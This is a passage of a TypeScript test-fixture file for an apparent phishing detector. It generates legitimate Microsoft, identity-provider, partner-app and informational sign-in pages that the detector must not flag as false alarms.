/**
 * The false-alarm corpus (issue #19): legitimate pages as people meet them every day, each on its real host
 * name, none of which may get a banner, a red badge or (where nothing Azure DevOps is involved) a warning;
 * and the clones an attacker would try next, which must still be caught. Written as a table of generated
 * pages rather than files: the unit tests (test/unit/false-alarms.test.ts, happy-dom) and the e2e spec
 * (test/e2e/false-alarms.spec.ts, real Chromium) read the same HTML.
 *
 * Our own pages in the style of each provider, not copies of theirs.
 */
import type { Route } from './harness/fixture-server';

export type PageClass = 'microsoft-hand-off' | 'identity-provider' | 'partner-app' | 'about-microsoft' | 'search' | 'callback';

export interface FixturePage {
  readonly name: string;
  readonly class: PageClass;
  readonly url: string;
  readonly html: string;
  /** Azure DevOps is involved (its sign-in hosts or its request): a warning may be right there, a danger never. */
  readonly azureDevOps?: boolean;
  /**
   * This page's false alarm comes from its URL alone (the Azure DevOps resource id in a search query or an
   * error_description), which the URL analyzer's own change for #19 fixes; the page signals must stay quiet.
   */
  readonly urlSide?: boolean;
}

export interface ClonePage {
  readonly name: string;
  readonly url: string;
  readonly html: string;
}

const ADO_RESOURCE = '499b84ac-1321-427f-aa17-267ca6975798';
const GIF = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
/** Microsoft's logo as an inline SVG draws it (four squares). */
const FOUR_SQUARES =
  '<svg width="21" height="21" viewBox="0 0 21 21"><rect x="1" y="1" width="9" height="9" fill="#f25022"/><rect x="11" y="1" width="9" height="9" fill="#7fba00"/><rect x="1" y="11" width="9" height="9" fill="#00a4ef"/><rect x="11" y="11" width="9" height="9" fill="#ffb900"/></svg>';
const COOKIE_BANNER =
  '<div id="cookie-banner" role="dialog" aria-label="Cookie consent"><p>We use cookies to improve your experience.</p><button type="button">Accept</button><button type="button">Reject</button></div>';

function doc(title: string, body: string, head = ''): string {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title>${head}</head><body>${body}</body></html>`;
}

function query(params: Record<string, string>): string {
  return new URLSearchParams(params).toString();
}

// --- Microsoft's hand-offs: the page that posts the sign-in's result to the app ---

function handOff(fields: Record<string, string>, action: string, noscriptButton = 'Submit'): string {
  const inputs = Object.entries(fields)
    .map(([name, value]) => `<input type="hidden" name="${name}" value="${value}">`)
    .join('');
  // Microsoft's page submits itself on load; the fixture leaves that out so the page stays put for the assertions.
  return doc(
    'Working...',
    `<form method="POST" name="hiddenform" action="${action}">${inputs}<noscript><p>Script is disabled. Click Submit to continue.</p><input type="submit" value="${noscriptButton}"></noscript></form>`,
  );
}

const ID_TOKEN = 'eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.eyJhdWQiOiJhcHAifQ.c2lnbmF0dXJl';
const SAML_RESPONSE = 'PHNhbWxwOlJlc3BvbnNlIHhtbG5zOnNhbWxwPSJ1cm46b2FzaXM6bmFtZXM6dGM6U0FNTDoyLjA6cHJvdG9jb2wiLz4=';
const oidc = (redirect: string, extra: Record<string, string> = {}) =>
  query({
    client_id: '6731de76-14a6-49ae-97bc-6eba6914391e',
    response_type: 'code id_token',
    response_mode: 'form_post',
    scope: 'openid profile email',
    redirect_uri: redirect,
    state: 'st',
    nonce: 'n',
    ...extra,
  });

const handOffs: FixturePage[] = [
  {
    name: 'OIDC form_post of code and id_token to a web app',
    url: `https://login.microsoftonline.com/common/oauth2/v2.0/authorize?${oidc('https://app.contoso.example/signin-oidc')}`,
    html: handOff({ code: '0.AXoA', id_token: ID_TOKEN, state: 'st', session_state: 'ss' }, 'https://app.contoso.example/signin-oidc'),
  },
  {
    name: 'OIDC form_post to a developer machine over http',
    url: `https://login.microsoftonline.com/common/oauth2/v2.0/authorize?${oidc('http://localhost:5000/signin-oidc')}`,
    html: handOff({ id_token: ID_TOKEN, state: 'st' }, 'http://localhost:5000/signin-oidc'),
  },
  {
    name: 'the sign-in POST answered with the form_post hand-off',
    url: 'https://login.microsoftonline.com/common/login',
    html: handOff({ code: '0.AXoA', id_token: ID_TOKEN, state: 'st' }, 'https://portal.fabrikam.example/auth/callback'),
  },
  {
    name: 'a tenant-specific v2 form_post to an app on Azure App Service',
    url: `https://login.microsoftonline.com/contoso.onmicrosoft.com/oauth2/v2.0/authorize?${oidc('https://contoso-hr.azurewebsites.net/.auth/login/aad/callback')}`,
    html: handOff({ id_token: ID_TOKEN, state: 'st' }, 'https://contoso-hr.azurewebsites.net/.auth/login/aad/callback'),
  },
  {
    name: 'SAML response posted to a service provider',
    url: 'https://login.microsoftonline.com/3f8a2c71-9d2e-4b5a-8c1f-6e7d9a0b1c2d/saml2?SAMLRequest=fZJNb4MwDIb%2FCuIeCB%2BlNGpRq&RelayState=%2Fdashboard',
    html: handOff({ SAMLResponse: SAML_RESPONSE, RelayState: '/dashboard' }, 'https://sso.fabrikam.example/saml/acs'),
  },
  {
    name: 'SAML response posted to a CRM',
    url: 'https://login.microsoftonline.com/contoso.onmicrosoft.com/saml2',
    html: handOff({ SAMLResponse: SAML_RESPONSE }, 'https://contoso.my.salesforce.com/?so=00D000000000001'),
  },
  {
    name: 'WS-Federation result posted to an intranet',
    url: 'https://login.microsoftonline.com/contoso.onmicrosoft.com/wsfed?wa=wsignin1.0&wtrealm=https%3A%2F%2Fintranet.contoso.example%2F&wctx=rm%3D0',
    html: handOff({ wa: 'wsignin1.0', wresult: '&lt;t:RequestSecurityTokenResponse/&gt;', wctx: 'rm=0' }, 'https://intranet.contoso.example/_trust/'),
  },
  {
    name: "the SAML request posted on to the organization's own AD FS (federated sign-in)",
    url: 'https://login.microsoftonline.com/contoso.onmicrosoft.com/login',
    html: handOff({ SAMLRequest: 'PHNhbWxwOkF1dGhuUmVxdWVzdC8+', RelayState: 'estsredirect=2' }, 'https://adfs.contoso.com/adfs/ls/', 'Continue'),
  },
  {
    name: 'form_post on the alternate global host',
    url: `https://login.microsoft.com/common/oauth2/v2.0/authorize?${oidc('https://wiki.northwind.example/oidc/callback')}`,
    html: handOff({ code: '0.AXoA', state: 'st' }, 'https://wiki.northwind.example/oidc/callback'),
  },
  {
    name: 'form_post on the legacy v1 host',
    url: `https://login.windows.net/common/oauth2/authorize?${query({ client_id: 'a1b2', response_type: 'id_token', response_mode: 'form_post', redirect_uri: 'https://legacy.contoso.example/', nonce: 'n', state: 'st' })}`,
    html: handOff({ id_token: ID_TOKEN, state: 'st' }, 'https://legacy.contoso.example/'),
  },
  {
    name: 'Microsoft account (personal) hand-off to an app',
    url: `https://login.live.com/oauth20_authorize.srf?${query({ client_id: '000000004C12AE6F', response_type: 'code', scope: 'openid', redirect_uri: 'https://notes.example.org/auth/msa', response_mode: 'form_post' })}`,
    html: handOff({ code: 'M.C105_BAY', state: 'st' }, 'https://notes.example.org/auth/msa'),
  },
  {
    name: 'US Government cloud hand-off',
    url: `https://login.microsoftonline.us/common/oauth2/v2.0/authorize?${oidc('https://portal.agency.example.gov/signin-oidc')}`,
    html: handOff({ id_token: ID_TOKEN }, 'https://portal.agency.example.gov/signin-oidc'),
  },
  {
    name: "Microsoft's own sign-in page (logo, assets, password) on its own host",
    url: `https://login.microsoftonline.com/common/oauth2/v2.0/authorize?${oidc('https://app.contoso.example/signin-oidc')}&prompt=login`,
    html: doc(
      'Sign in to your account',
      `<div id="lightbox"><img class="logo" alt="Microsoft" src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg"><div role="heading" aria-level="1" id="loginHeader">Enter password</div><form name="f1" id="i0281" method="post" action="/common/login"><input type="email" name="loginfmt" id="i0116" value="dev@contoso.example"><input type="password" name="passwd" id="i0118"><a id="idA_PWD_ForgotPassword" href="#">Forgot my password</a><input type="submit" id="idSIButton9" value="Sign in"></form></div>`,
      '<link rel="stylesheet" href="https://aadcdn.msftauth.net/ests/2.1/content/cdnbundles/converged.v2.login.min.css">',
    ),
  },
  {
    name: '"Stay signed in?" on Microsoft\'s host',
    url: 'https://login.microsoftonline.com/kmsi',
    html: doc(
      'Sign in to your account',
      `<div role="heading" aria-level="1">Stay signed in?</div><form method="post" action="/kmsi"><input type="hidden" name="ctx" value="x"><input type="submit" id="idBtn_Back" value="No"><input type="submit" id="idSIButton9" value="Yes"></form>`,
    ),
  },
].map((page) => ({ ...page, class: 'microsoft-hand-off' as const }));

// --- Other identity providers' sign-in and consent, on their own hosts ---

function signIn(
  title: string,
  options: { heading: string; brand: string; fields?: string; buttons?: string; action: string; extra?: string; head?: string },
): string {
  const fields = options.fields ?? '<input type="email" name="username" autocomplete="username"><input type="password" name="password">';
  return doc(
    title,
    `<header><img alt="${options.brand}" src="${GIF}"></header><main><h1>${options.heading}</h1><form method="post" action="${options.action}">${fields}${options.buttons ?? '<button type="submit">Sign in</button>'}</form>${options.extra ?? ''}</main>`,
    options.head,
  );
}

function consent(
  title: string,
  options: { brand: string; heading: string; lines: string[]; action: string; allow?: string; appLogo?: string; extra?: string },
): string {
  return doc(
    title,
    `<header><img alt="${options.brand}" src="${GIF}"></header><main>${options.appLogo ?? ''}<h1>${options.heading}</h1><ul>${options.lines.map((line) => `<li>${line}</li>`).join('')}</ul><form method="post" action="${options.action}"><input type="hidden" name="state" value="st"><button type="submit" name="decision" value="deny">Cancel</button><button type="submit" name="decision" value="allow">${options.allow ?? 'Allow'}</button></form>${options.extra ?? ''}</main>`,
  );
}

const MICROSOFT_BUTTON = `<a class="social" href="/auth/microsoft">${FOUR_SQUARES}<span>Sign in with Microsoft</span></a>`;

const identityProviders: FixturePage[] = [
  {
    name: 'Google sign-in',
    url: `https://accounts.google.com/o/oauth2/v2/auth?${query({ client_id: '1234.apps.googleusercontent.com', response_type: 'code', scope: 'openid email', redirect_uri: 'https://app.contoso.example/google/callback', state: 'st' })}`,
    html: signIn('Sign in - Google Accounts', {
      brand: 'Google',
      heading: 'Sign in',
      fields: '<input type="email" name="identifier" aria-label="Email or phone">',
      buttons: '<button type="button">Next</button>',
      action: 'https://accounts.google.com/v3/signin/identifier',
    }),
  },
  {
    name: "Google's consent screen for Microsoft's own app",
    url: `https://accounts.google.com/signin/oauth/consent?${query({ authuser: '0', part: 'AJi8', as: 'S123', client_id: '112233.apps.googleusercontent.com' })}`,
    html: consent('Sign in - Google Accounts', {
      brand: 'Google',
      heading: 'Microsoft apps &amp; services wants access to your Google Account',
      appLogo: `<img alt="Microsoft apps &amp; services" src="${GIF}">`,
      lines: [
        'See and download your contacts',
        'See, edit, create and delete all your Google Calendar events',
        'Make sure that you trust Microsoft apps &amp; services',
      ],
      action: 'https://accounts.google.com/signin/oauth/consent/approval',
    }),
  },
  {
    name: 'Google account chooser continuing to a Microsoft app',
    url: `https://accounts.google.com/o/oauth2/auth/oauthchooseaccount?${query({ client_id: '112233.apps.googleusercontent.com', scope: 'email profile', redirect_uri: 'https://login.live.com/oauth20_google.srf', response_type: 'code' })}`,
    html: doc(
      'Sign in - Google Accounts',
      `<header><img alt="Google" src="${GIF}"></header><h1>Choose an account</h1><p>to continue to Microsoft</p><ul><li><button type="button">Alex Wilber alex@example.com</button></li><li><button type="button">Use another account</button></li></ul>`,
    ),
  },
  {
    name: 'GitHub sign-in',
    url: 'https://github.com/login?return_to=%2Flogin%2Foauth%2Fauthorize%3Fclient_id%3Dabc',
    html: signIn('Sign in to GitHub · GitHub', {
      brand: 'GitHub',
      heading: 'Sign in to GitHub',
      fields: '<input type="text" name="login" autocomplete="username"><input type="password" name="password">',
      action: 'https://github.com/session',
    }),
  },
  {
    name: "GitHub's authorization of Microsoft's Azure Boards app",
    url: `https://github.com/login/oauth/authorize?${query({ client_id: 'Iv1.8a61f9b3a7aba766', redirect_uri: 'https://dev.azure.com/_boards/github/callback', scope: 'repo', state: 'st' })}`,
    html: consent('Authorize application', {
      brand: 'GitHub',
      heading: 'Authorize Azure Boards',
      appLogo: `<img alt="Azure DevOps" src="${GIF}" class="avatar">`,
      lines: ['Azure Boards by <a href="https://github.com/microsoft">Microsoft</a> wants to access your account', 'Repositories: public and private'],
      allow: 'Authorize microsoft',
      action: 'https://github.com/login/oauth/authorize',
    }),
  },
  {
    name: "GitHub's authorization of the Azure Pipelines app",
    url: `https://github.com/login/oauth/authorize?${query({ client_id: 'Iv1.0bbc3e1b4b9c2e6a', redirect_uri: 'https://dev.azure.com/_pipelines/github', scope: 'repo admin:repo_hook', state: 'st' })}`,
    html: consent('Authorize application', {
      brand: 'GitHub',
      heading: 'Azure Pipelines by Microsoft would like permission to:',
      lines: ['Full control of private repositories', 'Full control of repository hooks'],
      allow: 'Authorize Azure Pipelines',
      action: 'https://github.com/login/oauth/authorize',
    }),
  },
  {
    name: "Bitbucket granting access to Azure Pipelines (a path shaped like Entra's)",
    url: `https://bitbucket.org/site/oauth2/authorize?${query({ client_id: 'aB3dE5fG7h', response_type: 'code', state: 'st' })}`,
    html: consent('Bitbucket', {
      brand: 'Bitbucket',
      heading: 'Azure Pipelines is requesting access to your Bitbucket account',
      lines: ['Read your account information', 'Read and modify your repositories'],
      allow: 'Grant access',
      action: 'https://bitbucket.org/site/oauth2/authorize',
    }),
  },
  {
    name: 'Atlassian sign-in offering "Continue with Microsoft"',
    url: 'https://id.atlassian.com/login?continue=https%3A%2F%2Fcontoso.atlassian.net%2F',
    html: signIn('Log in with Atlassian account', {
      brand: 'Atlassian',
      heading: 'Log in to continue',
      fields: '<input type="email" name="username">',
      buttons: `<button type="submit">Continue</button><button type="button"><img alt="Microsoft logo" src="https://id.atlassian.com/assets/microsoft-logo.svg"> Continue with Microsoft</button>`,
      action: 'https://id.atlassian.com/login',
    }),
  },
  {
    name: 'Okta sign-in widget with a "Sign in with Microsoft" identity provider',
    url: 'https://contoso.okta.com/login/login.htm?fromURI=%2Fapp%2Fcontoso_portal%2Fsso%2Fsaml',
    html: signIn('Contoso - Sign In', { brand: 'Contoso', heading: 'Sign In', action: 'https://contoso.okta.com/api/v1/authn', extra: MICROSOFT_BUTTON }),
  },
  {
    name: 'Okta consent for an app',
    url: `https://contoso.okta.com/oauth2/v1/authorize?${query({ client_id: '0oa1b2c3', response_type: 'code', scope: 'openid profile offline_access', redirect_uri: 'https://app.contoso.example/okta/cb', state: 'st' })}`,
    html: consent('Contoso - Consent', {
      brand: 'Contoso',
      heading: 'Contoso Portal would like to:',
      lines: ['View your profile', 'Keep you signed in'],
      allow: 'Allow Access',
      action: 'https://contoso.okta.com/oauth2/v1/consent',
    }),
  },
  {
    name: 'Auth0 universal login with "Continue with Microsoft Account"',
    url: `https://contoso.auth0.com/u/login?${query({ state: 'hKFo2SBsb2dpbg' })}`,
    html: signIn('Log in | Contoso', {
      brand: 'Contoso',
      heading: 'Welcome',
      action: 'https://contoso.auth0.com/u/login',
      buttons: '<button type="submit">Continue</button><button type="button" data-provider="windowslive">Continue with Microsoft Account</button>',
    }),
  },
  {
    name: 'Salesforce login',
    url: 'https://login.salesforce.com/?locale=uk',
    html: signIn('Login | Salesforce', {
      brand: 'Salesforce',
      heading: 'Log In',
      action: 'https://login.salesforce.com/',
      buttons: '<input type="submit" value="Log In">',
    }),
  },
  {
    name: 'Sign in with Apple',
    url: `https://appleid.apple.com/auth/authorize?${query({ client_id: 'com.contoso.web', redirect_uri: 'https://app.contoso.example/apple', response_type: 'code id_token', scope: 'name email', response_mode: 'form_post' })}`,
    html: signIn('Sign in with Apple ID', {
      brand: 'Apple',
      heading: 'Use your Apple ID to sign in to Contoso.',
      fields: '<input type="text" name="accountName">',
      buttons: '<button type="submit">Continue</button>',
      action: 'https://appleid.apple.com/auth/signin',
    }),
  },
  {
    name: 'Facebook login dialog',
    url: `https://www.facebook.com/v19.0/dialog/oauth?${query({ client_id: '1234567890', redirect_uri: 'https://app.contoso.example/fb', state: 'st', scope: 'email' })}`,
    html: consent('Log in with Facebook', {
      brand: 'Facebook',
      heading: 'Contoso is requesting access to your name and email',
      lines: ['Name and profile picture', 'Email address'],
      allow: 'Continue as Alex',
      action: 'https://www.facebook.com/v19.0/dialog/oauth/confirm',
    }),
  },
  {
    name: 'LinkedIn authorization',
    url: `https://www.linkedin.com/oauth/v2/authorization?${query({ response_type: 'code', client_id: '77abc', redirect_uri: 'https://app.contoso.example/li', scope: 'openid profile email', state: 'st' })}`,
    html: consent('LinkedIn', {
      brand: 'LinkedIn',
      heading: 'Contoso would like to access your LinkedIn account',
      lines: ['Use your name and photo', 'Use the primary email address'],
      action: 'https://www.linkedin.com/oauth/v2/authorization-submit',
    }),
  },
  {
    name: 'Slack authorization of the Azure Boards app',
    url: `https://slack.com/oauth/v2/authorize?${query({ client_id: '1111.2222', scope: 'chat:write,commands', redirect_uri: 'https://boards.azure.example/slack/callback', state: 'st' })}`,
    html: consent('Slack', {
      brand: 'Slack',
      heading: 'Azure Boards is requesting permission to access the Contoso Slack workspace',
      lines: ['Send messages as Azure Boards', 'Add shortcuts and slash commands'],
      action: 'https://slack.com/oauth/v2/authorize',
    }),
  },
  {
    name: 'AD FS sign-in at /adfs/oauth2/authorize (an Entra-shaped path)',
    url: `https://adfs.contoso.com/adfs/oauth2/authorize/?${query({ client_id: 'f2c4e6a8', response_type: 'code', redirect_uri: 'https://app.contoso.example/adfs/cb', resource: 'urn:contoso:portal', state: 'st' })}`,
    html: doc(
      'Sign In',
      `<div id="header"><img class="logoImage" alt="Contoso" src="${GIF}"></div><div id="content"><div id="workArea"><div id="authArea"><div class="groupMargin">Sign in with your organizational account</div><form method="post" id="loginForm" action="/adfs/oauth2/authorize/?client-request-id=1a2b"><input id="userNameInput" name="UserName" type="email" placeholder="someone@example.com"><input id="passwordInput" name="Password" type="password"><span id="submitButton" role="button">Sign in</span></form></div></div></div><div id="footer"><span>© 2018 Microsoft</span></div>`,
    ),
  },
  {
    name: 'AD FS sign-in for a SAML relying party',
    url: 'https://sts.fabrikam.com/adfs/ls/?SAMLRequest=fZJNT8MwDIbvSPyHKPeuH9tgRGtRYUiOOoZRu',
    html: doc(
      'Sign In',
      `<div id="header"><img alt="Fabrikam" src="${GIF}"></div><div class="groupMargin">Sign in with your organizational account</div><form method="post" action="/adfs/ls/?SAMLRequest=fZJN&amp;client-request-id=9"><input id="userNameInput" name="UserName" type="email"><input id="passwordInput" name="Password" type="password"><span id="submitButton" role="button">Sign in</span></form><div id="footer">© 2018 Microsoft</div>`,
    ),
  },
  {
    name: 'Keycloak sign-in with a "Microsoft" identity provider button',
    url: `https://sso.northwind.example/realms/staff/protocol/openid-connect/auth?${query({ client_id: 'wiki', response_type: 'code', scope: 'openid', redirect_uri: 'https://wiki.northwind.example/cb', state: 'st' })}`,
    html: signIn('Sign in to Northwind Staff', {
      brand: 'Northwind',
      heading: 'Sign in to your account',
      action: 'https://sso.northwind.example/realms/staff/login-actions/authenticate',
      extra: `<div id="kc-social-providers"><ul><li><a id="social-microsoft" href="/realms/staff/broker/microsoft/login"><img alt="" src="${GIF}"><span>Microsoft</span></a></li><li><a href="/realms/staff/broker/google/login">Google</a></li></ul></div>`,
    }),
  },
  {
    name: 'PingFederate sign-in',
    url: `https://sso.contoso.com/as/authorization.oauth2?${query({ client_id: 'portal', response_type: 'code', scope: 'openid', redirect_uri: 'https://portal.contoso.com/cb' })}`,
    html: signIn('Contoso Sign On', { brand: 'Contoso', heading: 'Sign On', action: 'https://sso.contoso.com/as/ABC/resume/as/authorization.ping' }),
  },
  {
    name: 'Azure AD B2C tenant with its own branding and a Microsoft account button',
    url: `https://contoso.b2clogin.com/contoso.onmicrosoft.com/B2C_1_signupsignin/oauth2/v2.0/authorize?${query({ client_id: 'b2c-app', response_type: 'code', scope: 'openid https://contoso.onmicrosoft.com/api/read', redirect_uri: 'https://shop.contoso.example/cb' })}`,
    html: doc(
      'Sign up or sign in',
      `<div id="api"><img alt="Contoso Shop" src="${GIF}"><div class="heading"><h1>Sign in</h1></div><div class="claims-provider-list-buttons social"><button id="MicrosoftAccountExchange" class="accountButton">Microsoft</button><button id="GoogleExchange" class="accountButton">Google</button></div><form id="localAccountForm" method="post" action="/contoso.onmicrosoft.com/B2C_1_signupsignin/SelfAsserted?tx=StateProperties%3D1"><label>Email Address<input type="email" id="signInName"></label><label>Password<input type="password" id="password"></label><button type="submit" id="next">Sign in</button></form></div>`,
    ),
  },
  {
    name: 'Azure AD B2C on a custom domain',
    url: `https://login.contoso-shop.example/contoso.onmicrosoft.com/B2C_1_signin/oauth2/v2.0/authorize?${query({ client_id: 'b2c-app', response_type: 'code', scope: 'openid', redirect_uri: 'https://shop.contoso.example/cb' })}`,
    html: doc(
      'Contoso Shop - Sign in',
      `<div id="api"><img alt="Contoso Shop" src="${GIF}"><h1>Welcome back</h1><form method="post" action="/contoso.onmicrosoft.com/B2C_1_signin/SelfAsserted"><input type="email" id="signInName"><input type="password" id="password"><button type="submit" id="next">Sign in</button></form></div>`,
    ),
  },
  {
    name: "Entra External ID tenant: Microsoft's sign-in layout and assets with the tenant's own logo",
    url: `https://contoso.ciamlogin.com/contoso.onmicrosoft.com/oauth2/v2.0/authorize?${query({ client_id: 'ciam-app', response_type: 'code', scope: 'openid profile', redirect_uri: 'https://app.contoso.example/ciam/cb', state: 'st' })}`,
    html: doc(
      'Sign in to your account',
      `<div id="lightbox"><img class="logo" id="bannerLogo" alt="Contoso" src="https://aadcdn.msauthimages.net/dbd5a2dd-contoso/logintenantbranding/0/bannerlogo"><div role="heading" aria-level="1" id="loginHeader">Sign in</div><form name="f1" id="i0281" method="post" action="/contoso.onmicrosoft.com/login"><input type="email" name="loginfmt" id="i0116" placeholder="Email"><div><a href="#">No account? Create one!</a></div><input type="submit" id="idSIButton9" value="Next"></form></div>`,
      '<link rel="stylesheet" href="https://aadcdn.msftauth.net/ests/2.1/content/cdnbundles/converged.v2.login.min.css"><link rel="icon" href="https://aadcdn.msftauth.net/shared/1.0/content/images/favicon_a_eupayfgghqiai7k9sol6lg2.ico">',
    ),
  },
  {
    name: 'Entra External ID password page on a custom URL domain',
    url: `https://login.contoso.example/contoso.onmicrosoft.com/oauth2/v2.0/authorize?${query({ client_id: 'ciam-app', response_type: 'code', scope: 'openid', redirect_uri: 'https://app.contoso.example/ciam/cb' })}`,
    html: doc(
      'Enter password',
      `<div id="lightbox"><img class="logo" alt="Contoso" src="https://aadcdn.msauthimages.net/dbd5a2dd-contoso/logintenantbranding/0/bannerlogo"><div role="heading" aria-level="1">Enter password</div><form name="f1" method="post" action="/contoso.onmicrosoft.com/login"><input type="password" name="passwd" id="i0118"><a id="idA_PWD_ForgotPassword" href="#">Forgot your password?</a><input type="submit" id="idSIButton9" value="Sign in"></form></div>`,
      '<link rel="stylesheet" href="https://aadcdn.msftauth.net/ests/2.1/content/cdnbundles/converged.v2.login.min.css">',
    ),
  },
].map((page) => ({ ...page, class: 'identity-provider' as const }));

// --- Apps offering Microsoft sign-in ---

function partnerSignIn(app: string, host: string, offer: string): FixturePage {
  return {
    name: `${app} sign-in with "${offer
      .replace(/<[^>]+>/g, '')
      .trim()
      .slice(0, 40)}"`,
    class: 'partner-app',
    url: `https://${host}/login`,
    html: signIn(`Log in | ${app}`, {
      brand: app,
      heading: `Log in to ${app}`,
      action: `https://${host}/session`,
      extra: `<div class="providers">${offer}</div>${COOKIE_BANNER}`,
    }),
  };
}

const partnerApps: FixturePage[] = [
  partnerSignIn('Miro', 'miro.com', MICROSOFT_BUTTON),
  partnerSignIn('Figma', 'www.figma.com', `<button type="button"><img alt="Microsoft" src="${GIF}">Continue with Microsoft</button>`),
  partnerSignIn(
    'Trello',
    'trello.com',
    `<a href="/auth/microsoft" class="btn"><img src="/img/microsoft-logo.svg" alt="Microsoft logo"><span>Continue with Microsoft</span></a>`,
  ),
  partnerSignIn('Asana', 'app.asana.com', `<button type="button" aria-label="Sign in with Microsoft">${FOUR_SQUARES}</button>`),
  partnerSignIn(
    'Dropbox',
    'www.dropbox.com',
    `<a href="/oauth/ms"><img src="https://www.dropbox.com/static/ms-symbollockup_signin_light.svg" alt="Sign in with Microsoft"></a>`,
  ),
  partnerSignIn(
    'Zoom',
    'zoom.us',
    `<ul class="sso"><li><a href="/signin/sso"><img alt="" src="${GIF}">SSO</a></li><li><a href="/microsoft/oauth">${FOUR_SQUARES} Microsoft</a></li><li><a href="/google/oauth">Google</a></li></ul>`,
  ),
  partnerSignIn('Notion', 'www.notion.so', `<button type="button">${FOUR_SQUARES} Sign in using your Microsoft account</button>`),
  partnerSignIn(
    'Canva',
    'www.canva.com',
    `<button type="button"><img alt="Microsoft" src="${GIF}"> Continue with Microsoft</button><button type="button">Continue with Google</button>`,
  ),
  {
    name: "a partner portal titled like Microsoft's page, with a Microsoft Partner badge in its footer",
    class: 'partner-app',
    url: 'https://portal.contoso-partner.example/account/signin',
    html: doc(
      'Sign in to your account',
      `<header><img alt="Contoso Partner Portal" src="${GIF}"></header><main><h1>Sign in with your work or school account</h1><p>Use your Microsoft work or school account, or your portal password.</p>${MICROSOFT_BUTTON}<form method="post" action="/account/signin"><input type="email" name="email"><input type="password" name="password"><button type="submit">Sign in</button></form></main><footer><img alt="Microsoft" src="${GIF}"> Microsoft Solutions Partner</footer>`,
    ),
  },
  {
    name: "an Azure DevOps integration asking to connect (on the vendor's site)",
    class: 'partner-app',
    url: 'https://app.deploybot.example/integrations/azure-devops',
    html: doc(
      'Connect Azure DevOps | DeployBot',
      `<header><img alt="DeployBot" src="${GIF}"> DeployBot</header><main><h1>Connect your Azure DevOps account</h1><img alt="Azure DevOps" src="${GIF}"><p>DeployBot needs access to your pipelines. You will be sent to Microsoft to approve.</p><a class="button" href="/oauth/ado/start">Connect to Azure DevOps</a></main>${COOKIE_BANNER}`,
    ),
  },
];

// --- Pages about Microsoft ---

function aboutPage(name: string, url: string, title: string, body: string): FixturePage {
  return { name, class: 'about-microsoft', url, html: doc(title, `${body}${COOKIE_BANNER}`) };
}

const LOREM = '<p>Open the organization settings, find the app under Authorizations and review the scopes it holds before you accept anything.</p>';

const aboutMicrosoft: FixturePage[] = [
  aboutPage(
    'a tutorial on approving Azure DevOps apps (no <article>), with a sidebar logo',
    'https://devblog.example/2026/azure-devops-oauth-consent',
    'How to approve apps on your Azure DevOps account | DevBlog',
    `<header><a href="/">DevBlog</a></header><div class="post"><h1>How to approve apps on your Azure DevOps account</h1><img alt="Azure DevOps" src="${GIF}"><p>When an app asks for access you see the "Permissions requested" screen. This app would like to read your code.</p>${LOREM}<h2>Sign in to Azure DevOps</h2><p>Click Accept only if you trust the publisher.</p></div><aside><img alt="Azure DevOps logo" src="${GIF}"></aside>`,
  ),
  aboutPage(
    'a news story about an Azure DevOps sign-in bug, with a newsletter form',
    'https://technews.example/microsoft-fixes-azure-devops-sign-in',
    'Microsoft fixes sign-in bug in Azure DevOps - Tech News',
    `<h1>Microsoft fixes sign-in bug in Azure DevOps</h1><p>Microsoft said users signing in to their Azure DevOps account were asked twice.</p>${LOREM}<form action="https://newsletter.example/subscribe" method="post"><input type="email" name="email"><button type="submit">Subscribe</button></form>`,
  ),
  aboutPage(
    'an encyclopedia article on Microsoft Azure (logo in the infobox, search box)',
    'https://en.wikipedia.org/wiki/Microsoft_Azure',
    'Microsoft Azure - Wikipedia',
    `<form action="/w/index.php"><input type="search" name="search"><button>Search</button></form><h1>Microsoft Azure</h1><table class="infobox"><tr><td><img alt="Microsoft Azure logo" src="${GIF}"></td></tr></table><p>Microsoft Azure is a cloud computing platform.</p>${LOREM}<a href="/w/index.php?title=Special:UserLogin">Log in</a>`,
  ),
  aboutPage(
    'a Q&A thread on revoking an app in Azure DevOps',
    'https://stackoverflow.com/questions/71234567/revoke-oauth-app-azure-devops',
    "How do I revoke an app's access to my Azure DevOps organization? - Stack Overflow",
    `<h1>How do I revoke an app's access to my Azure DevOps organization?</h1><div class="question"><p>After I clicked Accept on the "Permissions requested" page the app has vso.code_write.</p></div><div class="answer"><p>Go to User settings, Authorizations.</p><pre><code>GET https://app.vssps.visualstudio.com/_apis/DelegatedAuth/Authorizations</code></pre></div><a href="/users/login">Log in</a><a href="/users/signup">Sign up</a>`,
  ),
  aboutPage(
    'a security write-up quoting a consent-phishing page in a figure',
    'https://research.securefirm.example/blog/ado-consent-phishing',
    'Consent phishing against Azure DevOps | SecureFirm Research',
    `<h1>Consent phishing against Azure DevOps</h1><figure><img alt="Microsoft" src="${GIF}"><div role="heading" aria-level="1">Sign in to your Microsoft account</div><p>Permissions requested</p><figcaption>The phishing page we found.</figcaption></figure>${LOREM}<p>The page asked to access your Azure DevOps account.</p>`,
  ),
  aboutPage(
    'a Microsoft 365 tips blog with a cookie Accept button',
    'https://m365tips.example/stay-signed-in',
    'Microsoft 365 Tips - Stay signed in?',
    `<header><h1>Microsoft 365</h1></header><main><h2>Why does Microsoft ask "Stay signed in?"</h2><p>Pick an account, enter password, and then choose.</p>${LOREM}</main>`,
  ),
  aboutPage(
    'a GitHub repository about Azure DevOps OAuth',
    'https://github.com/contoso/ado-oauth-sample',
    'GitHub - contoso/ado-oauth-sample: Sample app for the Azure DevOps OAuth flow',
    `<header><img alt="GitHub" src="${GIF}"><form action="/search"><input name="q" type="text"></form><a href="/login">Sign in</a></header><article class="markdown-body"><h1>Azure DevOps OAuth sample</h1><img alt="Azure DevOps" src="${GIF}"><p>Sends users to https://app.vssps.visualstudio.com/oauth2/authorize.</p><p>Register your app first.</p><p>Then run npm start.</p><pre><code>scope=vso.code vso.work</code></pre></article>`,
  ),
  aboutPage(
    'a course page on Entra sign-in, with a student login',
    'https://learn.trainingcorp.example/courses/entra-id-basics',
    'Entra ID basics: sign-in and consent | TrainingCorp',
